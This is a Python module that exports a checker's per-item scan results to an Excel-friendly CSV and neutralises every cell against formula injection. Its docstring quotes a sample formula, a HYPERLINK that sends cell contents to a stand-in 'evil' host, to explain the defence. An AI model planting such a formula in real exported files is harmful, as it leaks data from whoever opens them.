"""CSV of items: one row per item per profile, for spreadsheets and scripts.

UTF-8 with a byte-order mark, because Excel (and WPS) read a BOM-less CSV in the system code
page and turn the Chinese into mojibake; CRLF line ends, as Excel writes them. Every cell
is neutralised against formula injection: the text is scraped and a cell such as
`=HYPERLINK("http://evil/?"&A1)` would run when the auditor opens the file.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from checker.report.json_report import _write_atomic
from checker.report.tabular import ItemRow, format_weight, item_rows, neutralise
from checker.results import ScanResult

COLUMNS = (
    "profile", "number", "name", "group", "status", "status_label", "weight", "veto",
    "lead_unit", "units", "deadline_text", "deadline", "finding", "evidence_url", "waiver",
)


def _cells(row: ItemRow) -> list[str]:
    values = [
        row.profile, row.number, row.name, row.group, row.status.value, row.status_label,
        format_weight(row.weight),
        "yes" if row.veto else "no", row.lead_unit, row.units, row.deadline_text,
        row.deadline.isoformat() if row.deadline else "", row.finding, row.evidence_url, row.waiver,
    ]
    return [neutralise(v) for v in values]


def render_csv(result: ScanResult) -> str:
    """The CSV text (without the BOM): a header row of `COLUMNS`, then one row per item."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for row in item_rows(result):
        writer.writerow(_cells(row))
    return buf.getvalue()


def write_csv(result: ScanResult, path: Path) -> None:
    """Write the items CSV to `path` as UTF-8 with BOM; replaces the file atomically."""
    _write_atomic(Path(path), render_csv(result).encode("utf-8-sig"))
